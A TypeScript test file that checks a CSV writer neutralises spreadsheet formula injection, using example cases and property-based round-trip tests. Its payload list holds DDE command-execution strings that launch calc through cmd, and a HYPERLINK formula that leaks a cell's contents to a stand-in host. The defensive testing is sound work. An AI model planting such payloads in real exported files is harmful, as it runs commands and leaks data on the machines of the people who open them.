import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvLine } from './csv.js';

/** A reader of RFC 4180 that shares nothing with the writer. */
function readCsv(text: string): string[][] {
  const lines: string[][] = [[]];
  for (const [, quoted, plain = '', end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/gy)) {
    lines.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') lines.push([]);
  }
  return lines.slice(0, -1);
}

const formulas = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '=HYPERLINK("http://x/?"&A1,"click")',
  '+1',
  '-1+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=',
  '-',
  '=1,"=2"\r\n=3',
];

describe('a line of CSV', () => {
  it.each(formulas)('holds no formula: %j', (formula) => {
    const [[cell] = []] = readCsv(csvLine([formula, 'next']));
    expect(cell).toBe(`'${formula}`);
  });

  it('quotes what would end a cell, and nothing else', () => {
    expect(csvLine(['plain', 'a,b', 'a"b', 'a\r\nb', null, '', 7, -7, ' = '])).toBe(
      'plain,"a,b","a""b","a\r\nb",,,7,-7, = \r\n',
    );
  });

  it('is read back as it was written, but for the apostrophe before a formula', () => {
    const cells = fc.array(fc.oneof(fc.string({ unit: 'grapheme' }), fc.constantFrom(...formulas, '', '"', '\r\n')), {
      minLength: 1,
    });
    fc.assert(
      fc.property(fc.array(cells, { minLength: 1 }), (lines) => {
        const read = readCsv(lines.map(csvLine).join(''));
        const meant = lines.map((line) =>
          line.map((cell) => (/^[=+\-@\t\r\n＝＋－＠]/.test(cell) ? `'${cell}` : cell)),
        );
        expect(read).toEqual(meant);
      }),
    );
  });
});
